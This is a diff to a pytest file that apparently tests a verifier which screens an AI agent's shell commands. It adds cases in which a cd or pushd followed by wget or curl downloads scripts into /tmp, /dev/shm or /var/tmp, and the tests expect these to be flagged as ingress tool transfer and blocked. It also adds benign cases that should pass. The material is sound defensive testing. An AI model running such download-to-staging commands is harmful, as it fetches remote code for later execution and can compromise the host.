@@ -147,11 +147,15 @@ def test_a_download_written_by_inline_code_and_run_by_the_next_command(command: 
         "wget -P/dev/shm https://dl.example.org/x.rb",
         "wget --directory-prefix=/tmp http://dl.example.org/tool.pl",
         "python3 -c \"import urllib.request as u; u.urlretrieve('https://dl.example.org/x.sh', '/tmp/x.sh')\"",
+        "cd /tmp && wget https://dl.example.org/x.sh",
+        "cd /dev/shm; curl -O https://dl.example.org/p.py",
+        "cd /tmp && git clone https://github.com/x/y && cd y && curl -o run.sh https://dl.example.org/r",
+        "pushd /var/tmp && wget -q https://dl.example.org/a.pl && popd",
     ],
 )
 def test_a_script_downloaded_into_a_staging_directory_is_ingress(command: str) -> None:
     """A script saved into a world-writable directory (``/tmp``, ``/var/tmp``, ``/dev/shm``, ``$TMPDIR``) is put aside
-    to run later, whichever downloader and option spelling saves it."""
+    to run later, whichever downloader and option spelling saves it, also by a relative name after ``cd``."""
     reasons = _reasons("exec", {"command": command})
     assert any("staging directory (ingress tool transfer)" in r for r in reasons), reasons
     assert not Verifier(workspace=WS, rate_limit=False).verify({"tool": "exec", "args": {"command": command}}).allowed
@@ -168,6 +172,9 @@ def test_a_script_downloaded_into_a_staging_directory_is_ingress(command: str) -
         "wget -P downloads https://dl.example.org/install.sh",
         "curl -o data/raw.csv https://example.com/data.csv",
         "wget -O data/raw.csv https://example.com/data.csv",
+        "cd /tmp && wget https://data.example.org/cities.csv",
+        "cd data && wget https://dl.example.org/x.sh",
+        "cd /tmp && cd /workspace/project && wget https://dl.example.org/x.sh",
     ],
 )
 def test_data_into_a_staging_directory_and_scripts_into_the_workspace_are_not(command: str) -> None:
